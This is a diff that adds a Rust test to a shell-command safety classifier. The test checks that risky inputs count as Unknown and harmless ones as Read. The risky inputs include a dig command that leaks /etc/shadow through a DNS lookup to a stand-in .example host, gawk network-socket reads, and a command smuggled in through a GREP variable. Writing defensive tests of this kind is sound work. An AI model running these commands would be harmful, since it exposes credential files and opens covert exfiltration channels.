@@ -1222,3 +1222,39 @@ fn review2_f_file_program_options() {
         ("iptables-save -t nat", R),
     ]);
 }
+
+#[test]
+fn review3_shopt_network_reads_and_awk_sockets() {
+    let p = Programs::builtin();
+    for line in [
+        "shopt -so keyword; zgrep GREP='perl -e system(1)' root /etc/hostname",
+        "shopt -s -o allexport; echo",
+        "shopt -s expand_aliases",
+        "gawk '{print; exit}' /inet/tcp/0/127.0.0.1/46555",
+        "awk '{print}' /inet6/tcp/0/host/80",
+        "dig @127.0.0.1 $(head -c 30 /etc/shadow | base64 -w0).example",
+        "ping -c1 \"$X\".example",
+    ] {
+        assert_eq!(
+            classify(line, &p).class(),
+            Class::Unknown,
+            "{line}: {:?}",
+            classify(line, &p)
+        );
+    }
+    for line in [
+        "shopt",
+        "shopt -p",
+        "shopt -q extglob",
+        "dig example.com",
+        "ping -c1 10.0.0.1",
+        "awk '{print $1}' /etc/hosts",
+    ] {
+        assert_eq!(
+            classify(line, &p).class(),
+            Class::Read,
+            "{line}: {:?}",
+            classify(line, &p)
+        );
+    }
+}
